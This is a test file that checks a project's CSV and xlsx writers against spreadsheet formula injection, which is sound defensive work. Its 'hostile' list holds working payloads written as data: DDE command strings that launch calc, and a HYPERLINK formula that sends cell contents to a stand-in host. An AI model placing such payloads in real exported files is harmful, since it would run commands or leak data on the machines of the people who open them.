import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { withMark, withoutMark } from "../../loaders/write/formulaText.js";
import { writeCsv } from "../../loaders/write/writeCsv.js";
import { writeXlsx } from "../../loaders/write/writeXlsx.js";

const hostile = [
  "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://a.example/?"&A1,"klik")',
  "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "＋cmd|a!A0", "+[a.xlsx]A!A1", "-IMPORTXML(A1)",
];
const plain = ["Dinas Pendidikan", "+01", "-5", "+10 poin ke atas", "-2.5 to +5 points", "- tidak ada", "'ain", "SMP N 1 (Induk)", "a=b", "a@b", "3-5"];
const table = (texts: readonly string[]) => ({ columns: [{ name: "teks", type: "string" as const }, { name: "nilai", type: "number" as const }], rows: texts.map((teks) => ({ teks, nilai: -1.5 })) });
const cells = (texts: readonly string[]) => parse(Buffer.from(writeCsv(table(texts)))).slice(1) as unknown as string[][];

describe("CSV", () => {
  it("hands no spreadsheet a formula, nor one behind an apostrophe that was there", () => {
    for (const [text] of cells([...hostile, ...hostile.map((one) => `'${one}`)])) expect(text).toMatch(/^'/);
  });

  it("leaves every other text and every number as it is", () => {
    expect(cells(plain)).toEqual(plain.map((text) => [text, "-1.5"]));
  });

  it("gives a machine the text again, whatever it was", () => {
    expect(cells([...hostile, ...plain]).map(([text]) => withoutMark(text!))).toEqual([...hostile, ...plain]);
    fc.assert(fc.property(fc.stringMatching(/^[\s'=+\-@(!|a1＝]{0,12}$/), (text) => withoutMark(withMark(text)) === text), { numRuns: 2000 });
  });
});

describe("xlsx", () => {
  it("types such text as text, unchanged, and has no formula anywhere", async () => {
    const texts = [...hostile, ...plain];
    const entry = { sheet: "a", title: hostile[1]!, subtitle: hostile[0]!, table: table(texts) };
    const files = unzipSync(await writeXlsx({ cover: { sheet: "sampul", lines: [hostile[0]!] }, contents: { sheet: "isi", title: hostile[0]!, headers: ["a", "b"] }, notes: [], tables: [entry] }));
    const xml = Object.entries(files).filter(([path]) => /worksheets\/sheet\d+\.xml$/.test(path)).map(([, bytes]) => strFromU8(bytes)).join("\n");
    expect(xml).not.toMatch(/<f[\s>]|t="str"/);
    const strings = strFromU8(files["xl/sharedStrings.xml"]!);
    const unescaped = strings.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&quot;", '"').replaceAll("&apos;", "'").replaceAll("&#39;", "'").replaceAll("&amp;", "&");
    for (const text of texts.filter((one) => !/[\t\r]/.test(one))) expect(unescaped).toContain(`${text}</t>`);
  });
});
